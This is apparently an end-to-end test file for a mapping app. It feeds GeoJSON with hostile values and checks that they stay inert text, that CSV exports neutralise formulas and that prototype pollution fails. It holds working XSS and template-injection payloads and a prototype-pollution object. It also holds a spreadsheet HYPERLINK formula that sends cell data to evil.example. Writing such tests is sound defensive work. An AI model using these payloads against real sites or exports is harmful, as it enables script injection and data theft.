import { expect } from 'vitest'
import { test, testInTurnWithoutMap as testInTurn } from './driver'
import { collection, pole } from './given'

/** What would show if any of these were ever more than text. */
const mark = "document.title='caught';document.body.className='caught'"
const hostile = {
  image: `<img src=x onerror="${mark}"><b class="caught">`,
  svg: `<svg onload="${mark}"><script>${mark}</script></svg>`,
  script: `"><script>${mark}</script>`,
  address: `javascript:${mark}`,
  template: `\${${mark}}{{constructor.constructor("${mark}")()}}`,
  rightToLeft: 'Cột \u202egnudnol 7\u202c\u2066 moc.live\u2069',
  nul: 'Cột\u0000 A\u0007\u001b[31m',
  long: 'Dài '.repeat(25_000),
  oneWord: 'W'.repeat(100_000),
  formula: '=HYPERLINK("https://evil.example/?"&A1,"xem")',
  zalgo: `C${'\u0300\u0323'.repeat(200)}ột`,
  remote: 'https://evil.example/pixel.png',
} as const

const objects = Object.entries(hostile).map(([name, text], i) => pole(name, 108.8 + i * 2e-4, 15.12, {
  name: text, code: text.slice(0, 60), owner: text.slice(0, 80), street: text, note: text, status: text.slice(0, 40), photo: text, [text.slice(0, 50)]: text,
}))
/** With heights that stand out, so that findings speak of them. */
const file = { name: `${hostile.image.replaceAll('/', '')}.geojson`, text: collection([...objects, pole(`A ${hostile.image}`, 108.8, 15.121, { name: hostile.image, heightM: 900, status: hostile.svg })]) }
const strange = 'img[src="x"], main script, b.caught, svg[onload], iframe, object, embed, a[href^="javascript:"], img[src^="http"], body.caught'

test('hostile names stay text on the map, in the table, findings, search, panel, legend and dialogs; nothing runs, nothing is asked of anybody', async ({ app }) => {
  await app.begin()
  await app.opening.drop(file)
  if (await app.opening.isAsked()) {
    expect(await app.whole.hasElement(strange)).toBe(false)
    expect(await app.whole.tooWide()).toEqual([])
    await app.opening.take('project')
  }
  await app.opening.isOver()
  const still = async (where: string) => {
    expect(await app.whole.hasElement(strange), where).toBe(false)
    expect(await app.whole.title(), where).not.toBe('caught')
    expect(await app.whole.tooWide(), where).toEqual([])
  }
  await still('opened')
  await app.table.open()
  await still('table')
  expect(await app.table.text()).toContain('<img src=x')
  await app.table.press('Control+Home')
  for (const name of Object.keys(hostile)) {
    await app.table.press('Enter')
    await app.isSettled()
    expect(await app.map.panelTitle(), name).not.toBe('')
    await still(`selected ${name}`)
    await app.table.press('ArrowDown')
  }
  await app.findings.open()
  await still('findings')
  await app.search.for('<img')
  await still('search')
  await app.search.leave()
  await app.projects.openList()
  await still('projects')
  await app.projects.closeList()
  for (const [width, height] of [[820, 1180], [390, 844]] as const) {
    await app.resize(width, height)
    await still(`${width}`)
  }
})

testInTurn('hostile values leave in a file for a spreadsheet as text, never as a formula', async ({ app }) => {
  await app.beginWith(file)
  await app.table.open()
  const csv = await app.table.download()
  expect(csv).toContain('HYPERLINK')
  for (const cell of csv.split(/[;,\n](?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^\ufeff?"?/, '')).not.toMatch(/^[=@+]|^-(?!\d)/)
})

testInTurn('a __proto__ key leaves every other object as it was', async ({ app }) => {
  await app.beginWith({ name: 'pole.geojson', text: '{"type":"FeatureCollection","__proto__":{"caught":1},"features":[{"type":"Feature","id":"P1","__proto__":{"caught":1},"geometry":{"type":"Point","coordinates":[108.8,15.1]},"properties":{"kind":"pole","__proto__":{"caught":1},"constructor":{"prototype":{"caught":1}}}}]}' })
  expect(await app.whole.pollution()).toEqual([])
  expect((await app.layers.counts()).pole).toBe(1)
  await app.findings.open()
  expect((await app.findings.groups()).map(({ rule }) => rule)).toContain('load.protoKey')
})

testInTurn('markup that any part of the page tries to make of text stays text, and code from elsewhere is refused', async ({ app }) => {
  await app.goOn()
  expect(await app.whole.makeOf('<img src=x onerror="document.title=1">')).toEqual({ elements: 0, text: '<img src=x onerror="document.title=1">' })
  app.expectFault(/refused by the policy|Content Security Policy|TrustedScript/)
  expect(await app.whole.refuses('script')).toBe(true)
  expect(await app.whole.refuses('worker')).toBe(true)
  expect(await app.whole.refuses('style')).toBe(true)
  expect(await app.whole.refuses('text')).toBe(true)
})
